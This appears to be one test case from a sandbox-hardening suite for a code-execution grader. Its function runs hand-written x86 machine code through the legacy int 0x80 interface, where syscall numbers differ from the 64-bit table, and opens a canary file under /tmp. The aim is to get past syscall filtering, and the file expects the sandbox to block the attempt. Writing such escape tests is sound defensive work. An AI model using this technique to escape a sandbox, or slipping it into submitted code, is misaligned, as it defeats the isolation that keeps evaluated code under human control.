# attack: Opens a file by int 0x80 from its own machine code, where system calls have other numbers
# expect: wrong_answer, crashed
# canary: yes
import ctypes
import mmap
import struct

MAP_32BIT = 0x40
PATH = '/tmp/passk-canary/escape-thirty-two-bit-calls'.encode() + b'\0'


def f(x):
    try:
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
        page = mmap.mmap(-1, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        code = b'\x53\xb8\x05\0\0\0\xbb' + struct.pack('I', address + 2048) + b'\xb9\x41\0\0\0\xba\xa4\x01\0\0\xcd\x80\x5b\xc3'
        page[: len(code)] = code
        page[2048 : 2048 + len(PATH)] = PATH
        ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    except Exception:
        pass
    return None
